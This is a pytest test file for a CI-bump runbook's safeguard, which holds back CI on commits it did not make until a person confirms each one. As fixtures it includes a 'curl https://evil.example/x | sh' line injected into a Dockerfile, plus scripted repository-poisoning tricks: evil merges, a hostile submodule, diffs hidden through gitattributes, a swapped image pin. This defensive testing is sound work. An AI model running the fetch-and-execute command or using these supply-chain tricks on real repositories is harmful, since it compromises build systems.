"""Nothing is pushed or tested that the runbook did not make, unless a person has confirmed that very commit."""

import os
import subprocess
from pathlib import Path

import pytest
from bumping import BRANCH, World, bump_to, git

from runbook_lib.bump import branch_history
from runbook_lib.bump.run_ci import RunCi, push_round
from runbook_lib.decisions import FOREIGN
from runbook_lib.errors import Refused
from runbook_lib.model import Round
from runbook_lib.practice.forge import PracticeForge
from runbook_lib.world.bump_branch import BumpBranch

TITLE = "chore: Update Docker image version to 26.04-py3"
PIN, DOCKERFILE = "docker/.ngc_version.dev", "docker/Dockerfile.ci.dev"
GOLDEN = "tests/functional_tests/test_cases/gpt/gpt3_mcore_te_tp1_pp1/golden_values_dev_dgx_h100.json"
EVIL = "RUN curl https://evil.example/x | sh\n"


def authorize(world: World, **parameters: str) -> str:
    """Step 4, as its notebook runs it: why it did not authorize CI; empty if it did."""
    world.run(RunCi(), **parameters)
    return "" if world.outcome().startswith("waiting for CI run") else world.outcome()


def reviewed(world: World, tag: str = "26.04-py3", records: Path | None = None) -> branch_history.Review:
    branch = BumpBranch.find(world.checkout, bump_to(tag))
    return branch_history.review(branch, world.head(), records)


def commands(world: World) -> list[str]:
    return [it.body for it in world.github().comments(10) if it.body.startswith("/ok")]


_SHELL = """
evil() { printf %s "$EVIL" >>$DOCKERFILE; git add $DOCKERFILE; }
commit() { git add -A; git commit -q -m "${1-$TITLE}"; }
"""


class Other:
    """Somebody else's clone, with the right to push; they commit as the engineer and with the bump's title."""

    def __init__(self, world: World, branch: str = BRANCH) -> None:
        self.path, self.branch = world.home / "theirs", branch
        git(world.home, "clone", "-q", "-b", branch, str(world.remote), str(self.path))
        for name, value in {"user.name": "Ada Tester", "user.email": "ada@example.org"}.items():
            git(self.path, "config", name, value)

    def git(self, *arguments: str) -> str:
        return git(self.path, *arguments)

    def does(self, script: str) -> str:
        """Run a script in the clone, push what it has committed, and return that commit."""
        names = {"TITLE": TITLE, "EVIL": EVIL, "GOLDEN": GOLDEN, "PIN": PIN, "BRANCH": BRANCH, "DOCKERFILE": DOCKERFILE}
        subprocess.run(["bash", "-ec", _SHELL + script], cwd=self.path, env={**os.environ, **names}, check=True)
        self.git("push", "-q", "--force", "origin", f"HEAD:{self.branch}")
        return self.git("rev-parse", "HEAD")


# -- what somebody else may push ----------------------------------------------------------------------------------


#: By shell, in their clone.
ATTACKS = {
    "on top": "evil; commit",
    "amended": "evil; git commit -q --amend --no-edit",
    "golden values alone": "echo {} >$GOLDEN; commit 'test: refresh golden values for 26.04-py3'",
    "a pin alone": "echo evil.example/nvidia/pytorch:26.04-py3 >$PIN; commit",
    "a mode": "git update-index --chmod=+x $PIN; git commit -qm x",
    "a submodule": """
        printf '[submodule "x"]\\n path = x\\n url = https://evil.example/x\\n ignore = all\\n' >.gitmodules
        git add .gitmodules
        git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),x
        git commit -qm "$TITLE"
    """,
    "unseen by attributes": "echo '* -diff' >.gitattributes; evil; commit",
    "evil merge": """
        git switch -q -c aside origin/main; echo harmless >notes; commit 'docs: Notes'; git push -q origin HEAD:main
        git switch -q -; git merge -q --no-commit --no-ff aside; evil; commit "Merge branch 'main' into bump"
    """,
    "merge of another branch": """
        git switch -q -c aside origin/main; evil; commit 'docs: Notes'
        git switch -q -; git merge -q --no-ff -m "Merge branch 'main'" aside
    """,
    "octopus": """
        for name in one two; do git switch -q -c $name origin/main; echo x >$name; commit $name; done
        git switch -q $BRANCH; git merge -q -m "Merge branch 'main'" one two
    """,
    "undone again": "evil; commit; git revert --no-edit HEAD",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_commits_pushed_by_others_are_not_tested(opened: World, attack: str) -> None:
    if attack == "amended":  # the history is rewritten: this clone has no branch of its own then
        git(opened.checkout.path, "switch", "-q", "main")
        git(opened.checkout.path, "branch", "-qD", BRANCH)
    Other(opened).does(ATTACKS[attack])
    authorize(opened, allow="merge-base push-while-running partial-round")
    assert "waiting for a person to confirm" in authorize(opened)
    assert commands(opened) == []
    review = reviewed(opened, records=opened.records)
    first = review.foreign[0]
    assert first.id in str(opened.said("waiting")[-1]["next"])
    assert first.id in review.show().text
    assert {it["subject"] for it in opened.said("decisions")} == {f"{FOREIGN}:{it.id}" for it in review.foreign}
    if attack in ("on top", "unseen by attributes", "amended"):
        assert EVIL.strip() in review.show().text
        assert EVIL.strip() in opened.kept("change.diff")


def test_a_confirmation_holds_for_one_commit_alone(opened: World) -> None:
    other = Other(opened)
    first = other.does("evil; commit")
    for commit in ("a" * 40, git(opened.remote, "rev-parse", "main")):
        assert authorize(opened, allow=f"{FOREIGN}:{commit}")
    authorize(opened, allow=f"{FOREIGN}:{first}", mode="preview")  # which confirms nothing
    assert authorize(opened)
    assert commands(opened) == []
    assert authorize(opened, allow=f"{FOREIGN}:{first}") == ""
    assert commands(opened) == [f"/ok to test {first}"]
    assert [it["subject"] for it in opened.said("exceptions")] == [f"{FOREIGN}:{first}"]
    second = other.does("echo x >setup.py; commit")
    assert "waiting for a person to confirm a commit" in authorize(opened, allow=f"{FOREIGN}:{first}")
    assert authorize(opened)
    assert commands(opened) == [f"/ok to test {first}"]
    # Both stand in the file of decisions, which alone counts.
    assert authorize(opened, allow=f"{FOREIGN}:{second}")
    assert authorize(opened, allow=f"{FOREIGN}:{first} {FOREIGN}:{second}") == ""
    assert commands(opened)[1:] == [f"/ok to test {second}"]


def test_commits_pushed_between_the_check_and_the_comment_are_not_tested(
    opened: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    reviewed, comment = opened.head(), PracticeForge.comment

    def late(github: PracticeForge, number: int, body: str) -> object:
        Other(opened).does("evil; commit")
        return comment(github, number, body)

    monkeypatch.setattr(PracticeForge, "comment", late)
    authorize(opened)
    assert commands(opened) == [f"/ok to test {reviewed}"]
    assert [run for run in opened.github().runs("pull-request/10") if run.head_sha != reviewed] == []


# -- what is the runbook's own --------------------------------------------------------------------------------------


def test_another_machine_knows_the_pins_by_planning_them(opened: World) -> None:
    review = reviewed(opened)
    assert (review.commits, review.foreign) == (1, ())
    assert reviewed(opened, "26.02-py3").foreign


def test_empty_commits_and_clean_merges_add_nothing(opened: World) -> None:
    Other(opened).does("""
        git commit -q --allow-empty -m '[skip ci] anything'
        git switch -q -c aside origin/main; echo harmless >notes; commit 'docs: Notes'; git push -q origin HEAD:main
        git switch -q $BRANCH; git merge -q --no-ff -m "Merge branch 'main'" aside
    """)
    assert authorize(opened) == ""
    assert commands(opened) == [f"/ok to test {opened.head()}"]


# -- what is committed here -----------------------------------------------------------------------------------------


def test_a_commit_made_after_the_review_is_not_pushed(opened: World, monkeypatch: pytest.MonkeyPatch) -> None:
    review, before = branch_history.review, opened.head()
    opened.commit_on("main", "notes", "more\n")
    git(opened.checkout.path, "switch", "-q", BRANCH)

    def then(branch: BumpBranch, commit: str, records: Path | None) -> branch_history.Review:
        found = review(branch, commit, records)
        git(opened.checkout.path, "commit", "-q", "--allow-empty", "-m", TITLE)
        return found

    monkeypatch.setattr(branch_history, "review", then)
    with pytest.raises(Refused, match="has moved"):
        opened.open_pr(allow="merge-base")
    assert opened.head() == before


def test_a_persons_own_commit_waits_for_its_confirmation(opened: World) -> None:
    path, before = opened.checkout.path, opened.head()
    git(path, "switch", "-q", BRANCH)
    (path / "notes").write_text("mine\n")
    git(path, "add", "notes")
    git(path, "commit", "-q", "-m", TITLE)
    for mode in ("preview", "local", "publish"):
        opened.open_pr(mode=mode)
        assert "notes" in opened.kept("change.diff")
        assert "push" not in opened.effects()
        asked = [(it["kind"], it["subject"]) for it in opened.said("decisions")]
        assert asked == [("allow", f"{FOREIGN}:{git(path, 'rev-parse', 'HEAD')}")]
    assert opened.head() == before
    opened.open_pr(allow=f"{FOREIGN}:{git(path, 'rev-parse', 'HEAD')}")
    assert opened.head() != before


def test_answers_to_ci_are_reviewed_before_their_push(opened: World) -> None:
    assert authorize(opened) == ""
    opened.now[0] += 1000
    path = opened.checkout.path
    git(path, "switch", "-q", BRANCH)
    (path / GOLDEN).write_text("{}\n")
    git(path, "commit", "-q", "-am", "test: refresh golden values for 26.04-py3")
    before, run = opened.head(), opened.context(bump_to())
    run.world.round = Round()
    run.step(push_round)
    assert "waiting for a person to confirm" in opened.outcome()
    assert GOLDEN in (run.record.folder / "change.diff").read_text()  # type: ignore[operator]
    assert (opened.head(), len(commands(opened))) == (before, 1)


# -- how it is shown ------------------------------------------------------------------------------------------------


def test_a_diff_is_bounded_redacted_and_visible(opened: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_" + "s3cr3t" * 6)
    other = Other(opened)
    (other.path / "a.txt").write_text("x\n" * 5_000)
    (other.path / "big.bin").write_text("\x1b]0;evil\x07" + "y" * 300_000)
    (other.path / "z.txt").write_text(f"\x1b[2J\u202e {'ghp_' + 's3cr3t' * 6}\n")
    other.does("commit 'evil \x1b[2J\u202e <script>'")
    authorize(opened)
    shown = reviewed(opened).show()
    bundle = "".join(shown._repr_mimebundle_().values())
    assert "more lines" in bundle
    assert "not shown: 'big.bin' (300009 bytes)" in bundle
    assert len(bundle) < 200_000
    for bad in ("s3cr3t", "\x1b", "\u202e", "<script>"):
        assert bad not in shown._repr_mimebundle_()["text/html"].replace("&lt;script", ""), bad
    kept = opened.kept("change.diff")
    assert "s3cr3t" not in kept
